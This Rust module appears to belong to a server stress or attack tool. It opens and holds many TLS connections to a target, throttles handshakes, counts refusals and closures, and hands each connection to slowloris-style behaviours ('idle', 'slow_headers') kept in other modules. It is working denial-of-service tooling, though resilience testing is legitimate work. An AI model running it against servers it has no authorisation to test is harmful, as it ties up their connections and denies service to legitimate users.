//! What the attacks that hold connections open share: `count` TLS connections opened at most
//! `parallel` handshakes at a time, each then handed to the attack's own behaviour until the
//! server closes it, counted, and aborted when the attack is dropped. [`crate::idle`] sends
//! nothing; [`crate::slow_headers`] trickles a request head.

use std::future::Future;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::task::JoinHandle;
use tokio_rustls::client::TlsStream;

use crate::{tls, Target};

/// Counters shared with the connection tasks.
#[derive(Debug, Default)]
pub struct HeldCounts {
    /// Handshakes completed (connections now held).
    pub opened: AtomicUsize,
    /// Connects or handshakes that failed (the server refused or reset them).
    pub refused: AtomicUsize,
    /// Held connections the server closed (or answered, e.g. a 408 to an unfinished head).
    pub closed_by_server: AtomicUsize,
}

/// The connections, held until this is dropped.
pub struct HeldConnections {
    pub counts: Arc<HeldCounts>,
    tasks: Vec<JoinHandle<()>>,
}

impl HeldConnections {
    /// Opens `count` connections offering `alpn`, at most `parallel` handshakes at a time, and
    /// gives each (with its index) to `hold`, which returns when the server ends it. Returns
    /// once every connection was tried.
    pub async fn open<F, Fut>(
        target: &Target,
        count: usize,
        alpn: &[&[u8]],
        parallel: usize,
        hold: F,
    ) -> Self
    where
        F: Fn(usize, TlsStream<TcpStream>) -> Fut + Clone + Send + 'static,
        Fut: Future<Output = ()> + Send,
    {
        let counts = Arc::new(HeldCounts::default());
        let Ok(connector) = tls::connector(alpn) else {
            counts.refused.fetch_add(count, Ordering::Relaxed);
            return Self {
                counts,
                tasks: Vec::new(),
            };
        };
        let gate = Arc::new(Semaphore::new(parallel.max(1)));
        let (tried_tx, mut tried_rx) = tokio::sync::mpsc::channel::<()>(count.max(1));
        let mut tasks = Vec::with_capacity(count);
        for index in 0..count {
            let (target, connector, counts, gate, tried, hold) = (
                target.clone(),
                connector.clone(),
                Arc::clone(&counts),
                Arc::clone(&gate),
                tried_tx.clone(),
                hold.clone(),
            );
            tasks.push(tokio::spawn(async move {
                let permit = gate.acquire_owned().await;
                let connected = tls::connect(&target, &connector).await;
                drop(permit);
                let _ = tried.send(()).await;
                let Ok(stream) = connected else {
                    counts.refused.fetch_add(1, Ordering::Relaxed);
                    return;
                };
                counts.opened.fetch_add(1, Ordering::Relaxed);
                hold(index, stream).await;
                counts.closed_by_server.fetch_add(1, Ordering::Relaxed);
            }));
        }
        drop(tried_tx);
        for _ in 0..count {
            if tried_rx.recv().await.is_none() {
                break;
            }
        }
        Self { counts, tasks }
    }

    /// Connections still held (opened and not closed by the server).
    pub fn held(&self) -> usize {
        self.counts.opened.load(Ordering::Relaxed)
            - self.counts.closed_by_server.load(Ordering::Relaxed)
    }
}

impl Drop for HeldConnections {
    fn drop(&mut self) {
        for task in &self.tasks {
            task.abort();
        }
    }
}
